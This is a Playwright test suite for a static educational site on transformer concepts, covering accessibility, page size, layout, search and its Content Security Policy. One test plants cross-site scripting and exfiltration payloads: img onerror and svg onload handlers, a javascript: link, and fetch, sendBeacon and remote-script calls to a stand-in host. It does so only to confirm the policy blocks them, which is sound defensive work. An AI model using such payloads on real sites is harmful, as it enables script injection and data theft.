"""What holds for every kind of page, in a real browser."""

from __future__ import annotations

import functools
import gzip
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, Response

from tests.browser.opened import LAPTOP, PHONE, opened
from tools.browser import until
from tools.served import Site

AXE = Path(__file__).parents[2] / "node_modules" / "axe-core" / "axe.min.js"

# One of every kind.
KINDS = {
    "home": "",
    "start": "before-you-start/",
    "notation": "notation/",
    "concept": "concepts/attention/",
    "concept with many figures": "concepts/heads/",
    "notebook": "notebooks/attention-by-hand/",
    "claims": "does-it-hold/",
    "catalogue": "catalogue/",
    "resource": "resources/alammar-illustrated-transformer/",
    "resource without an address": "resources/port2eng-transformer-program/",
    "adding": "add/",
    "mended": "what-we-mended/",
    "licences": "licences/",
    "missing page": "404.html",
}
every_kind = pytest.mark.parametrize("path", KINDS.values(), ids=KINDS.keys())
KIB = 1024


@dataclass
class Visit:
    """What a first visit to one page showed; one visit serves several tests."""

    complaints: list[str] = field(default_factory=list)
    addresses: list[str] = field(default_factory=list)
    sizes: dict[str, int] = field(default_factory=dict)
    kept_out: dict[str, list[str]] = field(default_factory=dict)
    widths: dict[int, int] = field(default_factory=dict)
    words: int = 0
    words_without_scripts: int = 0

    def hear(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.complaints.append(message.text)

    def weigh(self, response: Response) -> None:
        if response.ok:
            self.sizes[response.url] = len(gzip.compress(response.body()))

    def watch(self, page: Page) -> None:
        page.on("console", self.hear)
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("request", lambda request: self.addresses.append(request.url))
        page.on("response", self.weigh)


def hold_still(page: Page) -> None:
    """Colours fade from one scheme to the other; nobody should look amid it.

    By a style sheet without a tag: the policy of the page allows no other.
    """
    page.evaluate(
        """() => {
          const sheet = new CSSStyleSheet();
          sheet.replaceSync("* { transition: none !important }");
          document.adoptedStyleSheets.push(sheet);
        }"""
    )


def serious(page: Page) -> list[str]:
    """What axe-core finds that keeps somebody out."""
    if not page.evaluate("'axe' in window"):
        page.evaluate(AXE.read_text(encoding="utf-8"))
    found = page.evaluate("axe.run({resultTypes: ['violations']})")
    return [
        f"{violation['id']}: {violation['help']}: {node['html'][:120]}"
        for violation in found["violations"]
        if violation["impact"] in ("serious", "critical")
        for node in violation["nodes"]
    ]


# Every word of a page that is not hidden, on the screen or below it.
SEEN = """() => {
  const texts = document.createTreeWalker(document.querySelector("main"), 4);
  const seen = [];
  while (texts.nextNode()) {
    const { parentElement, data } = texts.currentNode;
    if (parentElement.checkVisibility()) seen.push(data);
  }
  return seen.join(" ");
}"""


def look(browser: Browser, address: str) -> Visit:
    """Visit a page on a laptop and a phone, light and dark, scripts or not."""
    visit = Visit()
    context = browser.new_context(viewport=LAPTOP, color_scheme="light")
    page = context.new_page()
    visit.watch(page)
    page.goto(address)
    page.wait_for_load_state("networkidle")
    visit.words = len(page.evaluate(SEEN).split())
    page.remove_listener("response", visit.weigh)  # the rest is no first visit
    visit.kept_out["light"] = serious(page)
    hold_still(page)
    page.emulate_media(color_scheme="dark")
    page.set_viewport_size(PHONE)
    page.evaluate(
        "document.querySelectorAll('main details').forEach(d => d.open = true)"
    )
    # Material makes code that scrolls reachable by keyboard once it has been laid out.
    page.evaluate(
        "new Promise(laid => requestAnimationFrame(() => requestAnimationFrame(laid)))"
    )
    visit.widths[PHONE["width"]] = page.evaluate("document.documentElement.scrollWidth")
    visit.kept_out["dark"] = serious(page)
    context.close()
    context = browser.new_context(viewport=LAPTOP, java_script_enabled=False)
    page = context.new_page()
    page.goto(address)
    visit.words_without_scripts = len(page.evaluate(SEEN).split())
    context.close()
    return visit


@pytest.fixture(scope="session")
def visited(browser: Browser, site: Site) -> Callable[[str], Visit]:
    return functools.cache(lambda path: look(browser, site.url + path))


Visited = Callable[[str], Visit]


@every_kind
def test_no_errors_and_no_other_host(visited: Visited, site: Site, path: str) -> None:
    visit = visited(path)
    assert visit.complaints == []
    assert [a for a in visit.addresses if not a.startswith((site.url, "data:"))] == []
    assert len(visit.addresses) > 3


# What somebody may plant, and the directive that keeps it from happening.
PLANTED = {
    "fetch('https://x.example/').catch(() => 0)": "connect-src",
    "navigator.sendBeacon('https://x.example/', 'a')": "connect-src",
    "new Image().src = 'https://x.example/'": "img-src",
    "new Worker('data:,1')": "worker-src",
    'put(\'<img src="none.png" onerror="window.ran = 1">\')': "script-src-attr",
    "put('<svg onload=\"window.ran = 1\"></svg>')": "script-src-attr",
    "put('<a href=\"javascript:window.ran = 1\">x</a>').firstChild.click()": (
        "script-src-elem"
    ),
    "run({ textContent: 'window.ran = 1' })": "script-src-elem",
    "run({ src: 'https://x.example/x.js' })": "script-src-elem",
    "put('<iframe src=\"https://x.example/\"></iframe>')": "frame-src",
    "put('<object data=\"https://x.example/\"></object>')": "object-src",
    "put('<style>p { color: red }</style>')": "style-src-elem",
    "put('<base href=\"https://x.example/\">')": "base-uri",
    "put('<form action=\"https://x.example/\"></form>').firstChild.submit()": (
        "form-action"
    ),
}


def test_what_is_planted_neither_runs_nor_asks_another_host(
    browser: Browser, site: Site
) -> None:
    visit = Visit()
    planted_requests: list[Request] = []
    with opened(browser, site.url) as page:
        visit.watch(page)
        page.on(
            "request",
            lambda request: (
                planted_requests.append(request) if "x.example" in request.url else None
            ),
        )
        page.evaluate(
            """() => {
              window.refused = [];
              addEventListener("securitypolicyviolation", (event) =>
                window.refused.push(event.effectiveDirective));
              window.put = (html) => {
                const place = document.createElement("p");
                document.body.append(place);
                place.innerHTML = html;
                return place;
              };
              window.run = (how) =>
                document.body.append(
                  Object.assign(document.createElement("script"), how));
            }"""
        )
        for planted, directive in PLANTED.items():
            page.evaluate(f"() => {{ try {{ {planted} }} catch {{}} }}")
            until(page, f"window.refused.includes('{directive}')")
            page.evaluate("window.refused.length = 0")
        assert page.evaluate("window.ran") is None
        assert page.url == site.url
    assert {request.failure for request in planted_requests} == {"csp"}
    # So the tests above would see one that is planted in a page.
    assert len(visit.complaints) >= len(PLANTED)
    assert "https://x.example/" in visit.addresses


def test_no_part_of_the_site_breaks_its_policy(browser: Browser, site: Site) -> None:
    visit = Visit()
    address = site.url + "concepts/heads/"
    with opened(browser, address, permissions=["clipboard-write"]) as page:
        visit.watch(page)
        page.evaluate("window.stayed = true")
        page.locator('[data-md-component="palette"] label:visible').click()
        page.locator(".md-code__button").first.click()
        page.locator(".md-dialog--active").wait_for()
        page.locator('main .md-typeset p a[href$="attention/"]').first.focus()
        page.locator(".md-tooltip2 .md-typeset").first.wait_for()
        page.keyboard.press("/")
        page.keyboard.type("weight tying")  # a worker searches
        page.locator(".md-search-result__link").first.click()
        page.wait_for_url("**/weight-tying/**")
        page.locator('.site-links a[href$="catalogue/"]').click()
        page.locator("resource-catalogue form:not([hidden])").wait_for()
        page.locator("resource-catalogue input[type=search]").fill("illustrated")
        for path in ("notebooks/attention-by-hand/", "concepts/attention/"):
            page.locator(f'.md-nav a[href$="{path}"]').first.evaluate("a => a.click()")
            page.wait_for_url(f"**/{path}")
            page.locator("main article h1").first.wait_for()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.stayed") is True
    assert visit.complaints == []


@every_kind
def test_nobody_is_kept_out(visited: Visited, path: str) -> None:
    assert visited(path).kept_out == {"light": [], "dark": []}


def test_axe_would_find_a_fault(browser: Browser, site: Site) -> None:
    with opened(browser, site.url) as page:
        page.evaluate("document.querySelector('main').innerHTML += '<img src=\"x\">'")
        assert any(line.startswith("image-alt") for line in serious(page))


@every_kind
def test_a_phone_never_scrolls_sideways(visited: Visited, path: str) -> None:
    assert visited(path).widths == {360: 360}


@every_kind
def test_whole_without_scripts(visited: Visited, path: str) -> None:
    visit = visited(path)
    assert visit.words_without_scripts > 15
    # Scripts may add controls; they may not bring the content.
    assert visit.words_without_scripts > 0.8 * visit.words


@every_kind
def test_a_first_visit_is_light(visited: Visited, path: str) -> None:
    sizes = visited(path).sizes
    assert any(url.endswith(".woff2") for url in sizes)
    assert sum(sizes.values()) <= 250 * KIB, json.dumps(sizes, indent=1)
    # It grows with every page, and few search.
    assert not any("search_index" in url for url in sizes)


def test_formulas_are_typeset_without_scripts(browser: Browser, site: Site) -> None:
    address = site.url + KINDS["concept"]
    with opened(browser, address, java_script_enabled=False) as page:
        formula = page.locator(".formula .katex").first
        assert formula.bounding_box()["height"] > 30
        assert "KaTeX" in formula.evaluate("e => getComputedStyle(e).fontFamily")
        assert page.locator(".katex-error").count() == 0
        # The numbers are drawn once, the words for screen readers are hidden.
        assert page.locator(".katex-mathml").first.bounding_box()["width"] <= 1


def test_every_page_is_light(site: Site) -> None:
    pages = list(site.folder.rglob("*.html"))
    assert len(pages) > 200
    sizes = {
        page.relative_to(site.folder).as_posix(): len(gzip.compress(page.read_bytes()))
        for page in pages
    }
    # The catalogue holds the summary of every resource.
    sizes["catalogue/index.html"] -= 15 * KIB
    heavy = {name: size for name, size in sizes.items() if size > 30 * KIB}
    assert heavy == {}


@every_kind
def test_the_first_tab_leads_past_the_navigation(
    browser: Browser, site: Site, path: str
) -> None:
    with opened(browser, site.url + path) as page:
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.wait_for_url("**/*#text-of-the-page")
        until(page, "document.activeElement === document.body")
        page.keyboard.press("Tab")
        assert page.locator("article :focus").count() == 1
        assert page.locator("article").bounding_box()["y"] >= 0


def test_a_dark_page_is_printed_dark_on_light(browser: Browser, site: Site) -> None:
    address = site.url + KINDS["concept"]
    with opened(browser, address, color_scheme="dark") as page:
        page.emulate_media(media="print")
        hold_still(page)
        for part in ("body", "article p", "article pre code", "article figcaption"):
            colour = page.locator(part).first.evaluate("e => getComputedStyle(e).color")
            assert max(map(int, re.findall(r"\d+", colour)[:3])) < 128, part
        assert not page.locator(".md-code__button").first.is_visible()


def test_bars_stay_where_colours_are_the_systems(browser: Browser, site: Site) -> None:
    with opened(browser, site.url, forced_colors="active") as page:
        bar = page.locator(".trace-bar i").first
        assert bar.evaluate("e => getComputedStyle(e).backgroundColor") not in (
            "rgb(255, 255, 255)",
            "rgba(0, 0, 0, 0)",
        )
        assert bar.evaluate("e => getComputedStyle(e).printColorAdjust") == "exact"


def test_the_scheme_follows_the_system_and_the_button(
    browser: Browser, site: Site
) -> None:
    def paper(page: Page) -> str:
        return page.evaluate("getComputedStyle(document.body).backgroundColor")

    with opened(browser, site.url, color_scheme="light") as page:
        light = paper(page)
    with opened(browser, site.url, color_scheme="dark") as page:
        dark = paper(page)
        assert dark != light
        button = page.locator('[data-md-component="palette"] label:visible')
        button.click()
        assert paper(page) == light
        page.reload()
        assert paper(page) == light


def test_the_keyboard_reaches_the_content(browser: Browser, site: Site) -> None:
    with opened(browser, site.url + KINDS["concept"]) as page:
        page.keyboard.press("Tab")
        assert "Skip" in page.evaluate("document.activeElement.textContent")
        page.keyboard.press("Enter")
        assert page.evaluate("location.hash") != ""
        focused = page.evaluate(
            """() => {
              const boxes = [...document.querySelectorAll('main pre > code, main pre')]
                .filter(box => box.scrollWidth > box.clientWidth + 1);
              return boxes.every(box => box.tabIndex === 0
                || box.parentElement.tabIndex === 0);
            }"""
        )
        assert focused


@pytest.mark.parametrize(
    ("words", "first"),
    [
        ("attention", "concepts/attention/"),
        ("weight tying", "concepts/weight-tying/"),
        ("temperature", "concepts/logits/"),
    ],
)
def test_search_finds(browser: Browser, site: Site, words: str, first: str) -> None:
    with opened(browser, site.url) as page:
        page.keyboard.press("/")
        page.keyboard.type(words)
        result = page.locator(".md-search-result__link").first
        result.wait_for()
        assert result.get_attribute("href").startswith(site.url + first)


@pytest.mark.parametrize("path", ["?q=heads", "concepts/attention/?h=query"])
def test_an_address_may_ask_for_a_search_or_for_marks(
    browser: Browser, site: Site, path: str
) -> None:
    with opened(browser, site.url + path) as page:
        found = page.locator("main mark, .md-search-result__link").first
        found.wait_for(state="attached")
        assert re.search("heads|query", found.inner_text(), re.I)


def test_the_index_is_fetched_once_and_by_who_searches(
    browser: Browser, site: Site
) -> None:
    with opened(browser, site.url + "concepts/heads/", viewport=PHONE) as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.locator('article a[href$="/attention/"]').first.click()
        page.wait_for_selector("h1#attention")
        page.wait_for_load_state("networkidle")
        assert asked and not any("search_index" in url for url in asked)
        page.locator(".md-header__button[for=__search]").click()
        page.keyboard.type("attention")
        result = page.locator(".md-search-result__link").first
        result.click()
        # The words are marked on the page that was open already, too.
        page.locator("main mark").first.wait_for()
        assert sum("search_index" in url for url in asked) == 1


def test_a_link_to_a_concept_opens_without_a_reload(
    browser: Browser, site: Site
) -> None:
    with opened(browser, site.url + "concepts/heads/") as page:
        page.evaluate("window.stayed = true")
        page.locator('article a[href$="/attention/"]').first.click()
        page.wait_for_url("**/concepts/attention/")
        page.wait_for_selector("h1#attention")
        assert page.evaluate("window.stayed") is True


def test_a_link_to_a_concept_shows_a_preview(browser: Browser, site: Site) -> None:
    with opened(browser, site.url + "concepts/heads/") as page:
        page.locator('main .md-typeset p a[href$="attention/"]').first.focus()
        preview = page.locator(".md-tooltip2 .md-typeset").first
        preview.wait_for()
        assert "Attention" in preview.inner_text()


def test_a_planned_concept_explains_itself(browser: Browser, site: Site) -> None:
    # Any page that names a planned concept will do.
    name = next(
        page.parent.name
        for page in sorted(site.folder.glob("concepts/*/index.html"))
        if "<abbr" in page.read_text(encoding="utf-8")
    )
    with opened(browser, f"{site.url}concepts/{name}/") as page:
        word = page.locator("main abbr").first
        definition = word.get_attribute("title")
        assert word.get_attribute("tabindex") == "0"
        word.focus()
        tooltip = page.locator(".md-tooltip2").first
        tooltip.wait_for()
        assert definition is not None and definition in tooltip.inner_text()
